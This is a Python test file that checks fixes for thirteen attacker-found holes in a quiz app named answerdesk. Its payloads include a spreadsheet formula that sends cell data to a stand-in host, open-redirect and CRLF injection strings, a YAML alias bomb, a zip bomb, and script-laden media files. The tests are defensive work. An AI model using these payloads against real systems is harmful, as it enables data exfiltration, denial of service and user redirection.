"""Issue 17: thirteen holes found by attacking answerdesk as an outsider would.

One test (or a few) per item, named test_17_NN_...; each failed on the code
before its fix.
"""

from __future__ import annotations

import base64
import csv
import io
import os
import re
import time
import zipfile
from pathlib import Path

import pytest
import requests
from factories import csrf_token
from openpyxl import load_workbook

from answerdesk import create_app
from answerdesk.extensions import db
from answerdesk.formats.bg.exports import month_results, to_csv, to_xlsx
from answerdesk.formats.bg.league import MonthLine, MonthTable
from answerdesk.packs import PackError, load_native, parse_siq


def login(client, code: str, password: str):
    return client.post(f"/host/{code}/login", data={"password": password})


# 1. Formulas in exports ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Click")', "+cmd", "-1+1", "@SUM(1)"]


def test_17_01_export_formulas_neutralised_results_csv_and_xlsx(desk):
    for name in FORMULAS:
        desk.join(name)
    login(desk.client, desk.code, desk.password)
    resp = desk.client.get(f"/host/{desk.code}/export/results.csv")
    assert resp.status_code == 200
    names = [row[1] for row in csv.reader(io.StringIO(resp.get_data(as_text=True)))][1:]
    assert sorted(names) == sorted("'" + n for n in FORMULAS)
    resp = desk.client.get(f"/host/{desk.code}/export/results.xlsx")
    sheet = load_workbook(io.BytesIO(resp.data)).active
    cells = [sheet.cell(row=r, column=2) for r in range(2, sheet.max_row + 1)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)  # shown as typed …
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # … but never run


def test_17_01_export_formulas_neutralised_month_table(app):
    line = MonthLine(name="=1+1", place=1, shared=False, by_edition=(), points=3, title=None)
    with app.test_request_context():
        header, rows = month_results(MonthTable("2025-03", [], [line], [], []))
    assert to_csv(header, rows).decode("utf-8-sig").splitlines()[1].startswith("1,'=1+1,")
    sheet = load_workbook(io.BytesIO(to_xlsx(header, rows, "2025-03"))).active
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == "=1+1"
    assert sheet["C2"].value == 3  # numbers stay numbers


# 3. YAML alias bomb ---------------------------------------------------------------------

def test_17_03_yaml_aliases_refused_before_expansion():
    levels = ['a0: &a0 ["x","x","x","x","x","x","x","x","x","x"]']
    for i in range(1, 12):
        levels.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 10) + "]")
    bomb = "answerdesk_pack: 1\ntitle: bomb\n" + "\n".join(levels) + "\nrounds: []\n"
    assert len(bomb) < 1200
    with pytest.raises(PackError) as err:
        load_native(bomb, "bomb.yaml")
    assert err.value.location == "line 3"
    assert "anchors and aliases" in err.value.message


# 5. Unbounded fields --------------------------------------------------------------------

def test_17_05_answer_fields_size_and_depth_limited(desk, english):
    token = desk.join("Сови")
    desk.host(2, "open")
    big = desk.save(token, 2, 1, "a", fields={"text": "a", "junk": "x" * 60_000})
    assert big.status_code == 413 or big.status_code == 400
    assert big.get_json()["message"] == "fields is too large: at most 4 KB"
    many = desk.save(token, 2, 1, "a", fields={f"k{i}": i for i in range(300)})
    assert many.get_json()["message"] == "fields is too large: at most 4 KB"
    deep: dict = {"text": "a"}
    for _ in range(10):
        deep = {"d": deep}
    nested = desk.save(token, 2, 1, "a", fields=deep)
    assert nested.status_code == 400
    assert nested.get_json()["message"] == "fields is nested too deeply"
    assert desk.save(token, 2, 1, "a", fields={"text": "Вазов"}).status_code == 200


# 6. Rate limit on the receipts endpoint ------------------------------------------------

def test_17_06_receipts_endpoint_rate_limits_wrong_passwords(strict_app):
    code, password = strict_app.config["DEMO"]
    client = strict_app.test_client()
    url = f"/api/host/events/{code}/receipts/2/1?team=x&code=ABCD"
    wrong = [client.get(url, headers={"Authorization": "Bearer nope"}).status_code
             for _ in range(11)]
    assert wrong[:10] == [401] * 10 and wrong[10] == 429  # access.CREDENTIAL_LIMIT


# 9. Invisible characters in team names --------------------------------------------------

@pytest.mark.parametrize("invisible", ["\u00ad", "\u034f", "\u180e", "\u2060", "\u200b",
                                       "\ufe0f", "\u115f", "\u1160", "\u3164", "\u2800",
                                       "\ufeff", "\U000e0041", "\u061c", "\u17b4"])
def test_17_09_invisible_characters_do_not_make_a_new_team(desk, english, invisible):
    desk.join("Alpha")
    resp = desk.client.post(f"/api/events/{desk.code}/teams",
                            json={"name": f"Al{invisible}pha{invisible}"})
    assert resp.status_code == 409 and resp.get_json()["error"] == "name_taken"
    alone = desk.client.post(f"/api/events/{desk.code}/teams",
                             json={"name": invisible * 3})
    assert alone.status_code == 400 and alone.get_json()["message"] == "Team name is empty"


def test_17_09_visible_names_still_differ(desk):
    desk.join("Алфа")
    assert desk.client.post(f"/api/events/{desk.code}/teams",
                            json={"name": "Алфа 2"}).status_code == 201
    assert desk.client.post(f"/api/events/{desk.code}/teams",
                            json={"name": "👩‍👩‍👧 Семейство"}).status_code == 201


# 10. Open redirect ------------------------------------------------------------------------

@pytest.mark.parametrize("target", ["/%09/evil.example", "/%0a/evil.example", "//evil.example",
                                    "/\\evil.example", "https://evil.example/",
                                    "/%0d%0aSet-Cookie:x=1", "%2F%2Fevil.example",
                                    "/ /evil.example", "/\x7f/evil.example"])
def test_17_10_language_switch_never_redirects_off_site(client, target):
    resp = client.get(f"/lang/en?next={target}")
    assert resp.status_code == 302
    location = resp.headers["Location"]
    assert location in ("/", "http://quiz.test/"), location


def test_17_10_language_switch_keeps_a_local_next(client):
    resp = client.get("/lang/en?next=/e/ABC/sheet%3Fx%3D1")
    assert resp.headers["Location"].endswith("/e/ABC/sheet?x=1")


@pytest.mark.parametrize("target", ["/host/%09/evil.example", "//evil.example",
                                    "/host/x%0d%0aSet-Cookie:%20a=1"])
def test_17_10_host_login_next_stays_on_the_desk(desk, target):
    resp = desk.client.post(f"/host/{desk.code}/login?next={target}",
                            data={"password": desk.password})
    assert resp.status_code == 302
    assert resp.headers["Location"].endswith(f"/host/{desk.code}/")


# 12. 500 instead of 400 -------------------------------------------------------------------

def put_raw(desk, token: str, body: str):
    return desk.client.put(f"/api/events/{desk.code}/answers/2/1", data=body,
                           content_type="application/json",
                           headers={"Authorization": f"Bearer {token}"})


def test_17_12_lone_surrogates_are_400(desk, english):
    resp = desk.client.post(f"/api/events/{desk.code}/teams",
                            data='{"name": "A\\ud800"}', content_type="application/json")
    assert resp.status_code == 400 and resp.get_json()["message"] == "name is not valid text"
    token = desk.join("Сови")
    desk.host(2, "open")
    resp = put_raw(desk, token, '{"text": "\\udfff"}')
    assert resp.status_code == 400 and resp.get_json()["message"] == "text is not valid text"
    resp = put_raw(desk, token, '{"text": "a", "fields": {"text": "\\ud800"}}')
    assert resp.status_code == 400 and resp.get_json()["message"] == "fields is not valid text"
    resp = put_raw(desk, token, '{"text": "a", "fields": {"\\ud800": "x"}}')
    assert resp.status_code == 400


def test_17_12_a_nul_in_a_looked_up_team_name_is_not_a_500(desk, english):
    """Stored names carry no control characters (clean_name), so a looked-up name drops
    them too before its key is compared: the receipts check by team name finds the
    team, or none, and PostgreSQL never sees a NUL (found by the API fuzz test)."""
    token = desk.join("Сови")
    desk.host(2, "open")
    saved = desk.save(token, 2, 1, "Марица").get_json()
    auth = {"Authorization": f"Bearer {desk.password}"}
    url = f"/api/host/events/{desk.code}/receipts/2/1"
    found = desk.client.get(url, headers=auth,
                            query_string={"team": "Со\x00ви", "code": saved["receipt"]})
    assert found.status_code == 200 and found.get_json()["valid"]
    missing = desk.client.get(url, headers=auth, query_string={"team": "\x00", "code": "x"})
    assert missing.status_code == 404
    assert missing.get_json()["message"].startswith("No team named")


def test_17_12_huge_seq_is_400(desk, english):
    token = desk.join("Сови")
    desk.host(2, "open")
    resp = desk.save(token, 2, 1, "a", seq=2**70)
    assert resp.status_code == 400
    assert resp.get_json()["message"] == "seq must be a non-negative whole number"


def test_17_12_deeply_nested_fields_are_400(desk, english):
    token = desk.join("Сови")
    desk.host(2, "open")
    resp = put_raw(desk, token, '{"text": "a", "fields": ' + '{"a":' * 5000 + "1"
                   + "}" * 5001)
    assert resp.status_code == 400
    resp = put_raw(desk, token, '{"text": "a", "fields": ' + "[" * 5000 + "]" * 5000 + "}")
    assert resp.status_code == 400


@pytest.mark.parametrize("name", ["deep.json", "deep.yaml"])
def test_17_12_deeply_nested_pack_is_a_pack_error(name):
    body = "[" * 5000 + "]" * 5000
    text = ('{"answerdesk_pack": 1, "title": "x", "rounds": ' + body + "}"
            if name.endswith(".json") else "answerdesk_pack: 1\ntitle: x\nrounds: " + body)
    with pytest.raises(PackError) as err:
        load_native(text, name)
    assert "nested too deeply" in err.value.message


def test_17_12_crlf_in_host_login_next_is_not_a_500(desk):
    resp = desk.client.post(f"/host/{desk.code}/login?next=/host/{desk.code}/%0d%0aX:%201",
                            data={"password": desk.password})
    assert resp.status_code == 302
    assert "\n" not in resp.headers["Location"] and "\r" not in resp.headers["Location"]


# 13. CSRF skipped on any Authorization header ---------------------------------------------

def test_17_13_only_a_valid_bearer_skips_csrf(strict_app):
    code, password = strict_app.config["DEMO"]
    client = strict_app.test_client()
    token = csrf_token(client, f"/host/{code}/login")
    client.post(f"/host/{code}/login", data={"password": password, "csrf_token": token})
    url = f"/api/host/events/{code}/rounds/2/open"
    assert client.post(url, headers={"Authorization": "Basic Zm9v"}).status_code == 400
    assert client.post(url, headers={"Authorization": "Bearer"}).status_code == 400
    assert client.post(url, headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert client.post(url, headers={"Authorization": f"Bearer {password}"}).status_code == 200


# 4. Chunked bodies skip the size limit ----------------------------------------------------

def chunked_environ(size: int) -> dict:
    """A chunked body as gunicorn hands it over: no Content-Length, input terminated."""
    return {"wsgi.input": io.BytesIO(b'{"name": "' + b"x" * size + b'"}'),
            "wsgi.input_terminated": True, "CONTENT_TYPE": "application/json"}


def test_17_04_chunked_phone_body_is_bounded(desk, english):
    resp = desk.client.post(f"/api/events/{desk.code}/teams",
                            environ_overrides=chunked_environ(10 * 1024 * 1024))
    assert resp.status_code == 413
    assert resp.get_json() == {"error": "too_large", "kb": 64,
                               "message": "The request is too large: at most 64 KB"}
    small = desk.client.post(f"/api/events/{desk.code}/teams",
                             environ_overrides=chunked_environ(10))
    assert small.status_code == 201


def test_17_04_host_forms_bounded_pack_uploads_larger(desk):
    login(desk.client, desk.code, desk.password)
    form = desk.client.post(f"/host/{desk.code}/review", data={"x": "y" * (2 * 1024 * 1024)})
    assert form.status_code == 413
    pack = "answerdesk_pack: 1\ntitle: big\n# " + "x" * (2 * 1024 * 1024) + "\nrounds: []\n"
    resp = desk.client.post(f"/host/{desk.code}/programme/preview", data={
        "pack": (io.BytesIO(pack.encode()), "big.yaml")}, content_type="multipart/form-data")
    assert resp.status_code == 422  # read whole and parsed: the pack has no rounds


def _rss_kb(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        return int(next(line for line in f if line.startswith("VmRSS")).split()[1])


def _workers(pid: int) -> list[int]:
    return [int(p) for t in os.listdir(f"/proc/{pid}/task")
            for p in open(f"/proc/{pid}/task/{t}/children").read().split()]


@pytest.mark.slow
def test_17_04_and_12_under_gunicorn(serve, demo):
    """A chunked 12 MB body is refused at 64 KB, fast and without the worker
    growing by the body; deep or broken JSON is a 400 there too (item 12)."""
    code, _ = demo
    server = serve(workers=1, threads=2)
    url = f"{server.url}/api/events/{code}/teams"
    requests.post(url, json={"name": "warm-up"}, timeout=10)
    worker = _workers(server.proc.pid)[0]
    before = _rss_kb(worker)

    def body():
        yield b'{"name": "'
        for _ in range(12 * 16):
            yield b"x" * 65536
        yield b'"}'

    try:  # the read timeout bounds it: no timing assertion (issue 32)
        resp = requests.post(url, data=body(), timeout=20,
                             headers={"Content-Type": "application/json"})
        assert resp.status_code == 413 and resp.json()["error"] == "too_large"
    except requests.ConnectionError:
        pass  # the server may close the connection while the client still sends
    assert _rss_kb(worker) - before < 8 * 1024
    deep = requests.post(url, data='{"name": ' + "[" * 5000 + "]" * 5000 + "}",
                         headers={"Content-Type": "application/json"}, timeout=10)
    assert deep.status_code == 400
    lone = requests.post(url, data='{"name": "\\ud800"}',
                         headers={"Content-Type": "application/json"}, timeout=10)
    assert lone.status_code == 400
    assert requests.post(url, json={"name": "after"}, timeout=10).status_code == 201


# 7. Logins cannot be revoked --------------------------------------------------------------

def copy_cookie(source, target) -> None:
    """What an attacker who copied the host's session cookie holds."""
    cookie = source.get_cookie("session", domain="quiz.test")
    target.set_cookie("session", cookie.value, domain="quiz.test")


def test_17_07_logout_revokes_a_copied_host_cookie(app, desk):
    login(desk.client, desk.code, desk.password)
    thief = app.test_client()
    copy_cookie(desk.client, thief)
    assert thief.get(f"/host/{desk.code}/").status_code == 200
    desk.client.post(f"/host/{desk.code}/logout")
    assert thief.get(f"/host/{desk.code}/").status_code == 302
    assert thief.post(f"/api/host/events/{desk.code}/rounds/2/open").status_code == 401
    login(desk.client, desk.code, desk.password)  # a new login works again
    assert desk.client.get(f"/host/{desk.code}/").status_code == 200


def test_17_07_new_assistant_password_logs_the_assistant_out(app, desk):
    login(desk.client, desk.code, desk.password)
    page = desk.client.post(f"/host/{desk.code}/assistant").get_data(as_text=True)
    password = re.search(r'id="assistant-password">([^<]+)<', page).group(1)
    assistant = app.test_client()
    login(assistant, desk.code, password)
    assert assistant.get(f"/host/{desk.code}/review").status_code == 200
    desk.client.post(f"/host/{desk.code}/assistant")
    assert assistant.get(f"/host/{desk.code}/review").status_code == 302
    assert desk.client.get(f"/host/{desk.code}/review").status_code == 200  # host stays


def test_17_07_desk_logins_expire(app, desk, monkeypatch):
    login(desk.client, desk.code, desk.password)
    assert desk.client.get(f"/host/{desk.code}/").status_code == 200
    later = time.time() + app.config["DESK_LOGIN_HOURS"] * 3600 + 1
    monkeypatch.setattr("answerdesk.access.time.time", lambda: later)
    assert desk.client.get(f"/host/{desk.code}/").status_code == 302


# 2. Active pack media -------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 20
PNG_B64 = base64.b64encode(PNG).decode()
ACTIVE = {
    "page.html": b"<html><script>fetch('/host/X/')</script></html>",
    "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "cat.png": b"<!doctype html><script>alert(1)</script>",
    "empty.jpg": b"",
}


def media_pack() -> bytes:
    refs = ["good.png", "song.mp3", *ACTIVE]
    files = {"good.png": PNG, "song.mp3": b"ID3\x04\x00" + b"\x00" * 20, **ACTIVE}
    lines = ["answerdesk_pack: 1", "title: media", "rounds:", "- number: 4", "  kind: media",
             "  check_mode: typo3", "  points: 1", "  questions:"]
    for i, ref in enumerate(refs, start=1):
        kind = "audio" if ref.endswith("mp3") else "image"
        lines += [f"  - number: {i}", "    text: What is it?", "    key: x",
                  f"    media: [{{kind: {kind}, ref: {ref}}}]"]
    lines.append("files:")
    lines += [f"  {ref}: {base64.b64encode(data).decode()}" for ref, data in files.items()]
    return ("\n".join(lines) + "\n").encode()


def test_17_02_active_media_left_out_and_safe_extensions(app, client):
    from answerdesk.core.events import create_event
    from answerdesk.packs import parse_pack
    from answerdesk.packs.importer import import_pack, preview

    with app.app_context():
        event, _ = create_event("Media", code="MEDIA1")
        pack = parse_pack(media_pack(), "media.yaml")
        summary = preview(pack, event)
        assert sorted(summary.missing_media) == sorted(ACTIVE)
        assert len([w for w in summary.warnings if "left out" in w]) == len(ACTIVE)
        import_pack(event, pack, actor="test")
        db.session.commit()
        stored = {m["ref"]: m.get("file") for r in event.rounds for q in r.questions
                  for m in q.media}
    assert all(stored[ref] is None for ref in ACTIVE)
    assert stored["good.png"].endswith(".png") and stored["song.mp3"].endswith(".mp3")
    folder = Path(app.instance_path) / "media" / "MEDIA1"
    assert sorted(p.suffix for p in folder.iterdir()) == [".mp3", ".png"]
    resp = client.get(f"/e/MEDIA1/media/{stored['good.png']}")
    assert resp.status_code == 200 and resp.mimetype == "image/png" and resp.data == PNG
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    csp = resp.headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "sandbox" in csp and "script-src" not in csp


def test_17_02_media_stored_before_the_check_only_downloads(app, client):
    folder = Path(app.instance_path) / "media" / "OLD001"
    folder.mkdir(parents=True)
    (folder / ("a" * 24 + ".svg")).write_bytes(ACTIVE["drawing.svg"])
    resp = client.get(f"/e/OLD001/media/{'a' * 24}.svg")
    assert resp.status_code == 200 and resp.mimetype == "application/octet-stream"
    assert resp.headers["Content-Disposition"].startswith("attachment")
    assert "sandbox" in resp.headers["Content-Security-Policy"]


# 8. Zip bomb in .siq ----------------------------------------------------------------------

V5_NS = "https://github.com/VladimirKhil/SI/blob/master/assets/siq_5.xsd"


def siq_with_picture(files: dict[str, bytes]) -> bytes:
    """A v5 pack whose one question shows Images/pic.png; ``files`` deflated."""
    content = (f'<?xml version="1.0" encoding="utf-8"?><package name="t" version="5" '
               f'xmlns="{V5_NS}"><rounds><round name="Р"><themes><theme name="Т"><questions>'
               '<question price="100"><params><param name="question" type="content">'
               '<item>Что это?</item><item type="image" isRef="True">pic.png</item>'
               "</param></params><right><answer>Кот</answer></right></question>"
               "</questions></theme></themes></round></rounds></package>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("content.xml", content)
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def test_17_08_siq_entry_inflating_far_beyond_its_size_refused():
    bomb = siq_with_picture({"Images/pic.png": PNG + b"\x00" * (64 * 1024 * 1024)})
    assert len(bomb) < 200_000
    with pytest.raises(PackError) as err:
        parse_siq(bomb, "bomb.siq")
    assert "inflates" in err.value.message and "Images/pic.png" in err.value.message


def test_17_08_siq_unused_media_never_inflated(monkeypatch):
    bomb = siq_with_picture({"Images/pic.png": PNG,
                             "Images/unused.png": b"\x00" * (64 * 1024 * 1024)})
    opened: list[str] = []
    real_open = zipfile.ZipFile.open

    def spy(self, name, *args, **kwargs):
        opened.append(getattr(name, "filename", name))
        return real_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    pack = parse_siq(bomb, "bomb.siq")
    assert "Images/unused.png" not in opened and "Images/pic.png" in opened
    assert list(pack.media) == ["Images/pic.png"]
    assert any("no question uses" in w for w in pack.warnings)


def test_17_08_siq_total_inflated_size_bounded(monkeypatch):
    monkeypatch.setattr("answerdesk.packs.archive.MAX_TOTAL_BYTES", 1000)
    pack = siq_with_picture({"Images/pic.png": PNG + bytes(range(256)) * 8})
    with pytest.raises(PackError) as err:
        parse_siq(pack, "big.siq")
    assert "inflates to more than" in err.value.message


def test_17_05_and_12_refusals_speak_the_phone_language(desk):
    token = desk.join("Сови")
    desk.host(2, "open")
    resp = desk.client.put(f"/api/events/{desk.code}/answers/2/1",
                           json={"text": "a", "fields": {"x": "y" * 5000}},
                           headers={"Authorization": f"Bearer {token}", "Accept-Language": "ru"})
    assert resp.get_json()["message"] == "Поле «fields» слишком большое: не более 4 КБ"
    resp = desk.client.post(f"/api/events/{desk.code}/teams", data='{"name": "\\ud800"}',
                            content_type="application/json")  # Bulgarian by default
    assert resp.get_json()["message"] == "Полето „name“ не е валиден текст"


def test_17_docs_behind_a_proxy_limits_count_each_client(db_uri, tmp_path):
    """docs/security.md: with PROXY_COUNT=1 the rate limits key on X-Forwarded-For."""
    from answerdesk.formats.bg.demo import create_demo_event

    app = create_app({"SQLALCHEMY_DATABASE_URI": db_uri, "SECRET_KEY": "test-secret",
                      "SERVER_NAME": "quiz.test", "INSTANCE_PATH": str(tmp_path),
                      "TESTING": True, "RATELIMIT_ENABLED": True, "PROXY_COUNT": 1})
    with app.app_context():
        code = create_demo_event()[0].code
        db.session.commit()
    client = app.test_client()

    def join(name: str, address: str) -> int:
        return client.post(f"/api/events/{code}/teams", json={"name": name},
                           headers={"X-Forwarded-For": address}).status_code

    assert [join(f"T{i}", "10.0.0.1") for i in range(31)][-1] == 429
    assert join("other phone", "10.0.0.2") == 201
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


# Lower: per-event limits, pack size, old media -------------------------------------------

def test_17_extra_teams_per_event_limited(app, desk, english):
    app.config["MAX_TEAMS_PER_EVENT"] = 5
    for i in range(5):
        desk.join(f"Отбор {i}")
    resp = desk.client.post(f"/api/events/{desk.code}/teams", json={"name": "Шести"})
    assert resp.status_code == 409
    assert resp.get_json()["message"] == "This event is full: at most 5 teams."


def test_17_extra_huge_pack_refused_before_writing(app, monkeypatch):
    from answerdesk.core.events import create_event
    from answerdesk.packs import parse_pack
    from answerdesk.packs.importer import import_pack, preview

    monkeypatch.setattr("answerdesk.packs.importer.MAX_QUESTIONS", 3)
    rows = "".join(f"2;Въпрос {i};Отговор;\n" for i in range(4))
    pack = parse_pack(("round;question;answer;alternatives\n" + rows).encode(), "big.csv")
    with app.app_context():
        event, _ = create_event("Big", code="BIG001")
        with pytest.raises(PackError, match="at most 3 can be imported"):
            preview(pack, event)
        with pytest.raises(PackError):
            import_pack(event, pack, actor="test")


def test_17_extra_replace_import_removes_old_media(app):
    from answerdesk.core.events import create_event
    from answerdesk.packs import parse_pack
    from answerdesk.packs.importer import import_pack

    with app.app_context():
        event, _ = create_event("Media", code="MEDIA2")
        import_pack(event, parse_pack(media_pack(), "media.yaml"), actor="test")
        db.session.commit()
        folder = Path(app.instance_path) / "media" / "MEDIA2"
        assert len(list(folder.iterdir())) == 2
        other = media_pack().replace(PNG_B64.encode(), base64.b64encode(PNG + b"2"))
        import_pack(event, parse_pack(other, "media.yaml"), actor="test")
        db.session.commit()
        files = {m["file"] for r in event.rounds for q in r.questions for m in q.media
                 if "file" in m}
        assert {p.name for p in folder.iterdir()} == files and len(files) == 2
